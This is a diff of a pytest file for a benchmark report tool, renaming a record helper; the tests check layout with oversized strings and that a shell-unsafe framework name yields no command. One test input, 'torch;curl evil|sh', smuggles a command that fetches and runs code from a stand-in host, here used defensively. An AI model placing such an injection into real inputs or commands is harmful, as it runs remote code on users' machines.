@@ -7,7 +7,7 @@ import re
 
 import pytest
 
-from tests.likenesses import varied
+from tests.sample_records import vary_record
 from xfbench.host.machine import describe
 from xfbench.report import content, page
 
@@ -166,7 +166,10 @@ def test_a_phone_does_not_scroll_sideways(opened, board, hostile):
     if hostile:
         long = {"framework": "w" * 10**6, "kernel": "w" * 10**6}
         unheard = [long, {**long, "workload": "w" * 10**6}]
-        records = [*records, *(varied(records[0], request=one, seconds=0.1) for one in unheard)]
+        records = [
+            *records,
+            *(vary_record(records[0], request=one, seconds=0.1) for one in unheard),
+        ]
     shown = opened(records, certificates, viewport={"width": 360, "height": 740})
     for button in shown.locator("table.board > tbody button").all():
         button.click()
@@ -274,7 +277,7 @@ def test_a_hostile_string_can_still_be_read(opened, board):
 
 def test_a_name_unfit_for_a_shell_has_no_command(opened, board):
     records, certificates = board
-    bad = varied(records[0], request={"framework": "torch;curl evil|sh"}, seconds=0.001)
+    bad = vary_record(records[0], request={"framework": "torch;curl evil|sh"}, seconds=0.001)
     shown = opened([bad], certificates)
     assert "no command of xfbench does this again" in shown.get_by_role("article").inner_text()
     assert "evil|sh" not in " ".join(shown.locator("code").all_text_contents())
@@ -334,7 +337,7 @@ def test_without_scripts_all_details_are_shown(opened_board):
 
 def test_two_thousand_cells_are_under_five_megabytes_and_sort(opened, measured):
     made = [
-        varied(
+        vary_record(
             measured[0],
             request={"threads": threads, "framework": name},
             seconds=0.001 * (1 + threads % 97),
